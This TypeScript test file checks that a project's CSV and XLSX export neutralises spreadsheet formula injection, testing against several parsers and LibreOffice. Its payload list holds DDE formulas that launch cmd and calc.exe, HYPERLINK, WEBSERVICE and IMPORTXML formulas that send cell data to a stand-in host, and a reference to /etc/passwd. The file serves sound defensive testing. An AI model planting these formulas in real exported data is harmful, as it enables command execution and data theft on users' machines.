/** S7: texts that a spreadsheet would run as formulas, in CSV made safe for them and in XLSX (docs/security.md 16). */
import { spawnSync } from 'node:child_process';
import fs from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { parseExact } from '../../src/base/exactJson.ts';
import type { CsvOptions } from '../../src/export/formatOptions.ts';
import { buildXlsx } from '../../src/export/built/xlsx.ts';
import { CsvWriter } from '../../src/export/textWriters.ts';
import { projectRoot } from '../../tools/vscode/projectPaths.ts';
import { noSignal } from '../faults/client.ts';
import { LibreOffice } from '../support/drivers/libreOffice.ts';
import { recordSource } from '../support/fakes/recordSource.ts';
import { isFull } from '../support/results/full.ts';
import { Cases } from './cases.ts';

/** All characters that are = + - @ or that Unicode's normalization makes of one, as Apple Numbers does. */
const SIGNS: readonly string[] = Array.from({ length: 0x11_0000 }, (_, code) => code)
  .filter((code) => code < 0xd800 || code > 0xdfff)
  .map((code) => String.fromCodePoint(code))
  .filter((sign) => isSign(sign));
/** Characters that may precede a formula: spaces that some programs remove, and invisible ones. */
const FRONTS = [
  ...['', '\t', '\r', '\n', '\r\n', '\0', '\x1b', '\v', '\f', ' ', '  \t ', '\u00a0', '\u2003', '\u3000'],
  ...['\u2028', '\ufeff', '\ufeff\ufeff', '\u200b', '\u200d', '\u2060', '\u00ad', '\u200e', '\u202e', '\ufe0f'],
];
/** OWASP's and other known ones: DDE, addresses that get what the sheet has, other files, a new cell in the middle. */
const FORMULAS = [
  ...['', '1+1', 'SUM(A1:A9)', "cmd|' /C calc'!A0", "1+1+cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0"],
  ...["rundll32|'URL.dll,OpenURL calc.exe'!A", "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''"],
  ...['DDE("cmd";"/C calc";"x")', 'HYPERLINK("http://a.test/?x="&A1,"Click")', 'WEBSERVICE("http://a.test")'],
  ...['IMPORTXML(CONCAT("http://a.test/?x=",A1:A9),"//a")', "'file:///etc/passwd'#$passwd.A1"],
  ...['1+2";=1+2', '1+2\'" ;,=1+2', '1\n=1+1', '1\r\n"=1+1"', '"1"'],
];
/** The daily run has every text with a sign of ASCII, and a third of the others, in which each pair of parts occurs. */
const isTried = (front: number, sign: number, formula: number): boolean =>
  isFull || (SIGNS[sign] ?? '') < '\x7f' || (front + sign + formula) % 3 === 0;
const HOSTILE = FRONTS.flatMap((front, frontAt) =>
  SIGNS.flatMap((sign, signAt) =>
    FORMULAS.filter((_, formulaAt) => isTried(frontAt, signAt, formulaAt)).map(
      (formula) => `${front}${sign}${formula}`,
    ),
  ),
).concat([`=${'1+'.repeat(5000)}1`, '\ta', '\ra', '\na', '\0a', '\t', '\r', '\n', '\r\n\r\n']);
/** Quotes are part of these texts, or nothing is run: safe or not, they stay as they are. */
const HARMLESS = [
  ...["'=1+1", '"=1+1"', '"=1+1', '""=1+1', '\'"=1+1', '",=1+1', '";=1+1', '"\n=1+1', "'", '"', '', ' ', 'a'],
  ...['a=1', 'a-b', 'a@b.test', '1+1', '(=1)', '%1', '|calc', ' a', '\ufeffa', '\u2212', 'ー', '−1', '～', '±1'],
];
const TEXTS = [...HOSTILE, ...HARMLESS];

const LAYOUTS = ([',', ';', '\t', '|'] as const).flatMap((delimiter) =>
  ([{}, { bom: true }, { lineEnd: 'lf' }, { bom: true, lineEnd: 'lf' }] as const).flatMap(
    (layout: { readonly bom?: true; readonly lineEnd?: 'lf' }) =>
      ([{ safe: true }, {}] as const).map((safety: { readonly safe?: true }) => {
        const options = { delimiter, ...layout, ...safety };
        const given = Object.entries(options).map((option) => option.join(' '));
        return { name: given.join(', ').replace('|', 'bar'), isSafe: safety.safe === true, ...options };
      }),
  ),
);

/** Numbers as an Excel file contains them: those with more than 15 digits as texts. */
const NUMBERS = ['0', '-1', '1.5', '57572.47', '0.1', '123456789012345', '9007199254740993', '1e400', '-0.00000001'];

/** Cells that calculate or lead elsewhere in a flat spreadsheet of OpenDocument. */
function ran(fods: string): number {
  return fods.match(/ table:formula="|<office:dde-source|<table:cell-range-source|<text:a /g)?.length ?? 0;
}

function isSign(text: string): boolean {
  return /^[=+\-@]/.test(text.normalize('NFKC'));
}

/** By what it shows, or by a character that OWASP and ASVS name. */
function isRun(text: string): boolean {
  return /^[\t\r\n\0]/.test(text) || isSign(text.replace(/^[\s\p{Cc}\p{Cf}\p{DI}]+/u, ''));
}

/** Each text once as the name of a field, and once in each of two fields: at the beginning of a line and within it. */
function csv(options: CsvOptions): string {
  const writer = new CsvWriter({ csv: options });
  const head = writer.begin(TEXTS.map((id) => ({ id, type: 'text' })));
  return head + writer.rows(TEXTS.map((text) => [text, text])) + writer.end();
}

interface ReadByPython {
  readonly csv: readonly (readonly (readonly string[])[])[];
  readonly xlsx: readonly { readonly calculates: number; readonly types: readonly string[] }[];
}

describe('S7: a text that a spreadsheet would run', function () {
  this.timeout(240_000);
  const cases = new Cases();
  let folder = '';
  before(async () => {
    folder = await fs.mkdtemp(path.join(os.tmpdir(), 'formulas-'));
  });
  after(() => fs.rm(folder, { recursive: true }));
  after(() => cases.count('S7', `cells of ${String(TEXTS.length)} texts run nothing and are otherwise the same`));

  function python(asked: object): ReadByPython {
    const { stdout, stderr, status } = spawnSync('python3', [path.join(projectRoot, 'test/security/readSheets.py')], {
      input: JSON.stringify(asked),
      encoding: 'utf8',
      maxBuffer: 1 << 30,
    });
    if (status !== 0) throw new Error(stderr);
    return JSON.parse(stdout) as ReadByPython;
  }

  function judge(where: string, rows: readonly (readonly string[])[], isSafe: boolean): void {
    const [head = [], ...records] = rows;
    const read = [head, records.map(([first]) => first), records.map(([, second]) => second)];
    for (const [at, place] of ['name', 'first value', 'later value'].entries())
      for (const [row, text] of TEXTS.entries()) {
        const cell = read[at]?.[row] ?? '';
        const written = isSafe && row < HOSTILE.length ? `'${text}` : text;
        const name = `${where}, ${place}: ${JSON.stringify(text.slice(0, 60))} -> ${JSON.stringify(cell.slice(0, 60))}`;
        cases.judge(name, cell === written && !(isSafe && isRun(cell)));
      }
    cases.judge(`${where}: ${String(rows.length)} rows`, rows.length === TEXTS.length + 1);
  }

  it('is one by its first sign that is seen, and the harmless are none', () => {
    for (const text of HOSTILE) cases.judge(`hostile: ${JSON.stringify(text.slice(0, 60))}`, isRun(text));
    for (const text of HARMLESS) cases.judge(`harmless: ${JSON.stringify(text)}`, !isRun(text));
  });

  for (const { name, isSafe, delimiter, bom = false, lineEnd, ...options } of LAYOUTS)
    it(`is ${isSafe ? 'a text' : 'unchanged'} in ${name}`, async () => {
      const text = csv({ ...options, delimiter, ...(bom && { bom }), ...(lineEnd && { lineEnd }) });
      const record_delimiter = lineEnd === 'lf' ? '\n' : '\r\n';
      const rows = parse(text, { delimiter, record_delimiter, bom, relax_column_count: true });
      judge(`csv-parse, ${name}`, rows, isSafe);
      await fs.writeFile(path.join(folder, name), text);
    });

  it('is run by LibreOffice in exact CSV only', async () => {
    const office = new LibreOffice(folder);
    for (const delimiter of [',', ';', '\t', '|']) {
      const files = await Promise.all(
        [true, false].map(async (safe) => {
          const writer = new CsvWriter({ csv: { delimiter, safe } as CsvOptions });
          const file = path.join(folder, `office ${String(delimiter.charCodeAt(0))} ${String(safe)}.csv`);
          writer.begin([
            { id: 'first', type: 'text' },
            { id: 'second', type: 'text' },
          ]);
          await fs.writeFile(file, writer.rows(HOSTILE.map((text) => [text, text])));
          return file;
        }),
      );
      const [safe = '', exact = ''] = office.opened(files, delimiter);
      const where = `LibreOffice, ${JSON.stringify(delimiter)}`;
      cases.judge(`${where}: ${String(ran(safe))} formulas in safe CSV`, ran(safe) === 0);
      // The second check shows that this program does run formulas, so that the first one means something.
      cases.judge(`${where}: ${String(ran(exact))} formulas in exact CSV`, ran(exact) > 50);
    }
  });

  it('is the same to Python', () => {
    const files = LAYOUTS.map(({ name, delimiter }) => ({ path: path.join(folder, name), delimiter }));
    const read = python({ csv: files, xlsx: [] }).csv;
    for (const [at, { name, isSafe }] of LAYOUTS.entries()) judge(`Python, ${name}`, read[at] ?? [], isSafe);
  });

  it('at the very beginning of a file is none, whatever a reader drops there', () => {
    for (const text of HOSTILE) {
      const writer = new CsvWriter({ csv: { safe: true } });
      const [row = []] = parse(writer.begin([{ id: text, type: 'text' }]), { bom: true, record_delimiter: '\r\n' });
      cases.judge(`first name: ${JSON.stringify(text.slice(0, 60))}`, !isRun(row[0] ?? ''));
    }
  });

  it('is a text in an XLSX file, in which nothing calculates or leads elsewhere', async () => {
    const file = path.join(folder, 'a.xlsx');
    const fields = TEXTS.map((id) => ({ id, type: 'text' }));
    const rows = TEXTS.map((text) => [text, text]);
    await buildXlsx(recordSource(fields, rows), file, noSignal, { name: "=cmd|' /C calc'!A0" });
    const [sheet] = python({ csv: [], xlsx: [file] }).xlsx;
    for (const [at, type] of sheet?.types.entries() ?? [])
      cases.judge(`cell ${String(at)}: ${type}`, type === 'inlineStr');
    cases.judge(`cells: ${String(sheet?.types.length)}`, sheet?.types.length === 3 * TEXTS.length);
    cases.judge(`elements that calculate: ${String(sheet?.calculates)}`, sheet?.calculates === 0);
  });

  it('is the same text to LibreOffice in an XLSX file, and each number has its digits', async () => {
    const file = path.join(folder, 'office.xlsx');
    const fields = [
      { id: 'text', type: 'text' },
      { id: 'number', type: 'numeric' },
    ];
    // Line ends within a cell are one kind to it, and what XML has no sign for is nothing.
    const shown = TEXTS.filter((text) => !/[\p{Cc}\ufffe\uffff]/u.test(text));
    const rows = shown.map((text, at) => [text, parseExact(NUMBERS[at % NUMBERS.length] ?? '0')]);
    await buildXlsx(recordSource(fields, rows), file, noSignal);
    const [csv = ''] = new LibreOffice(folder).held([file]);
    const [, ...read] = parse(csv, { relax_column_count: true });
    for (const [at, text] of shown.entries()) {
      const number = NUMBERS[at % NUMBERS.length] ?? '';
      const [foundText, foundNumber] = read[at] ?? [];
      const name = `LibreOffice, XLSX: ${JSON.stringify([foundText?.slice(0, 60), foundNumber])}`;
      cases.judge(`${name} is ${number}`, foundText === text && foundNumber === number);
    }
  });
});
